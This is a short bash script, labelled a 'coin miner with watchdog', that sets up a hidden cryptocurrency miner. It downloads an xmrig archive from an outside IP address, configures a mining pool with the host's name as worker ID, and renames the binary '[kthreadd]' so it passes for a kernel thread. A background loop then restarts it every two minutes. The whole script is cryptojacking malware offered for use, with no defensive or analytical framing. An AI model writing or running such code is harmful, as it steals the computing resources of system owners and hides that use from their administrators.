#!/bin/bash
# coin miner with watchdog
set +e
D=/var/tmp/.cache-$RANDOM
mkdir -p $D && cd $D || exit 1
curl -sLo m.tgz http://203.0.113.120/xmrig.tgz && tar xzf m.tgz
sysctl -w vm.nr_hugepages=1280
cat > config.json <<J
{"autosave":true,"cpu":true,"donate-level":0,
 "pools":[{"url":"pool.minexmr.example:443","user":"4APLACEHOLDER","pass":"$(hostname)","tls":true}]}
J
mv xmrig "[kthreadd]"
while true; do
  pgrep -f kthreadd.*config >/dev/null || nohup ./"[kthreadd]" --config=config.json >/dev/null 2>&1 &
  sleep 120
done &
